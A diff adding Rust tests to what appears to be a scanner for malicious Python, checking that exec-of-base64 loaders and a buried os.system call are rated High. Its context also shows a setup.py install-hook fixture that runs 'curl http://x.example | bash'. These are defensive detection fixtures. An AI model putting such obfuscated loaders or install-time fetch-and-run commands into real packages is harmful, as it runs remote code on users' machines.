@@ -624,6 +624,47 @@ fn programs_that_only_could() {
 }
 
 #[test]
+fn text_that_is_handed_in_is_of_whoever_calls() {
+    let decodes = |tail: &str| {
+        let text =
+            format!("import base64\ndef load(text):\n    exec(base64.b64decode(text))\n{tail}");
+        found("module.py", &text, "python/runs-text").severity
+    };
+    assert_eq!(decodes(""), Severity::Medium);
+    for tail in [
+        "def main():\n    load('aW1wb3J0IG9z')\n",
+        "load('aW1wb3J0IG9z')\n",
+        "again = load\nagain('aW1wb3J0IG9z')\n",
+    ] {
+        assert!(decodes(tail) >= Severity::High, "{tail}");
+    }
+    // What stands in the program is no less hidden in a function, or as a default.
+    for text in [
+        "import base64\ndef load():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n",
+        "import base64\ndef load(text='aW1wb3J0IG9z'):\n    exec(base64.b64decode(text))\n",
+        "import base64\ndef load(text):\n    exec(base64.b64decode('aW1wb3J0' + text))\n",
+        "import base64\ndef load(text):\n    exec(base64.b64decode(f'aW1wb3J0{text}'))\n",
+    ] {
+        let severity = found("module.py", text, "python/runs-text").severity;
+        assert!(severity >= Severity::High, "{text}");
+    }
+}
+
+#[test]
+fn of_many_sights_the_worst_are_told() {
+    let many = "requests.get('https://x.example')\n".repeat(2_000);
+    let text = format!("import os, requests\n{many}os.system('id')\n");
+    let report = named("module.py", text.as_bytes());
+    assert!(
+        report
+            .findings
+            .iter()
+            .any(|one| one.severity == Severity::High && one.rule == "python/runs-command"),
+        "{report:#?}"
+    );
+}
+
+#[test]
 fn what_installs_and_what_starts_with_python() {
     let setup = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
                  class Now(install):\n    def run(self):\n        os.system('curl http://x.example | bash')\n\
